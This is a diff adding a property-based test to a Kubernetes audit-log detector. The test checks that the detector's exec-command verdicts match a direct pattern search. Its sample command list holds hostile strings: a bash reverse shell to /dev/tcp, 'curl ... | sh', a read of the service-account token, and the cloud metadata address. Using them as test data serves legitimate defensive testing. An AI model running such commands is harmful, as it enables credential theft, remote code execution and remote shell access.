@@ -196,3 +196,24 @@ def test_factory_fingerprint_and_evidence_json_equal_the_reference(
         if not foreign:
             assert json_line(f) == orjson.dumps(f.to_dict())
         assert (f.evidence_json is None) == (foreign or any(p == "anomaly" for p, _ in evidence))
+
+
+CMD = st.lists(st.sampled_from(["tar", "cf", "-", "sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+                                "curl http://x | sh", "169.254.169.254", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "id"]),
+               max_size=4)  # fmt: skip
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(CMD, min_size=1, max_size=6))
+def test_exec_verdicts_remembered_across_events_equal_searching_each_command(cmds) -> None:
+    from urllib.parse import quote
+
+    from kubestrata.detect.rules.native_exec import _SUSPICIOUS, SA_TOKEN, _is_tar_to_stdout, _verdict
+
+    for cmd in cmds:
+        uri = "/api/v1/namespaces/ns/pods/web/exec?" + "&".join("command=" + quote(a) for a in cmd)
+        ev = AuditEvent({**_event("u", "ua", "web", "10.0.0.1", "").raw, "requestURI": uri})
+        text = " ".join(cmd)
+        want = (_is_tar_to_stdout(cmd), bool(cmd and SA_TOKEN.search(text)),
+                tuple(why for rx, why in _SUSPICIOUS if rx.search(text)))  # fmt: skip
+        assert tuple(_verdict(ev)) == want
